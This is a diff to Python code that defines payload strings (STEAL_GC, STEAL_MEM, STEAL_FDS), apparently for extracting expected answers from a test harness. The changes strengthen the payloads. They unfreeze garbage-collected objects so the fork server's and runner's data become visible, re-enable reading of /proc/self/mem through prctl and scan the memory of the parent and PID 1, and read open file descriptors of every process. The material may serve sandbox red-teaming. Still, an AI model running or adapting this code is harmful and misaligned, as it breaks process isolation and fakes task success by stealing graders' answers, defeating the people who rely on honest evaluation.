@@ -133,6 +133,7 @@ def _gather():
 STEAL_GC = fenced(r'''
 import gc
 def _gather():
+    gc.unfreeze()  # frozen objects (the fork server's, the runner's) are invisible otherwise
     out = []
     for o in gc.get_objects():
         for r in gc.get_referents(o):
@@ -143,8 +144,9 @@ def _gather():
 
 # Freed buffers included: every readable mapping of this process, read through /proc/self/mem.
 STEAL_MEM = fenced(r'''
-import os
+import ctypes, os
 def _gather():
+    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE 1: /proc/self/mem is ours again
     out = []
     for pid in ("self", str(os.getppid()), "1"):
         try:
@@ -168,7 +170,7 @@ def _gather():
 ''' + _ANSWER_FROM_TESTS)
 
 STEAL_FDS = fenced(r'''
-import os
+import os, stat
 def _gather():
     out = []
     pids = [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]
@@ -183,8 +185,11 @@ def _gather():
         except OSError:
             continue
         for fd in fds:
+            path = f"/proc/{pid}/fd/{fd}"
             try:
-                with open(f"/proc/{pid}/fd/{fd}", "rb") as f:
+                if not stat.S_ISREG(os.stat(path).st_mode):  # files and memfds; pipes would block
+                    continue
+                with open(path, "rb") as f:
                     out.append(f.read(1 << 24))
             except OSError:
                 pass
